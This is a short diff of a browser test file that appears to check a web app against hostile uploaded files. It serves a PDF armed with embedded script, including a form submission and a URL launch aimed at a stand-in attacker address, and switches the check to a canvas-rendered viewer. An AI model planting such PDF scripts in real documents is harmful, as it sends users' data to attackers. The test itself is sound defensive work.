@@ -186,10 +186,9 @@ test.describe('of hostile files (A5-8)', () => {
     await withAttacker(page, async (attacker) => {
       await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
       await signIn(page, served, '/files/form.pdf')
-      await expect(page.getByTitle('form.pdf').and(page.locator('iframe'))).toBeVisible()
+      await expect(page.locator('[data-part=pdf] canvas')).toBeVisible()
       await untilQuiet(page)
-      // The browser's viewer runs the script in a world of its own and may show what it says; it reaches nothing of ours.
-      await expectHarmless(page, served.url, { ...attacker, dialogs: [] })
+      await expectHarmless(page, served.url, attacker)
     })
   })
 
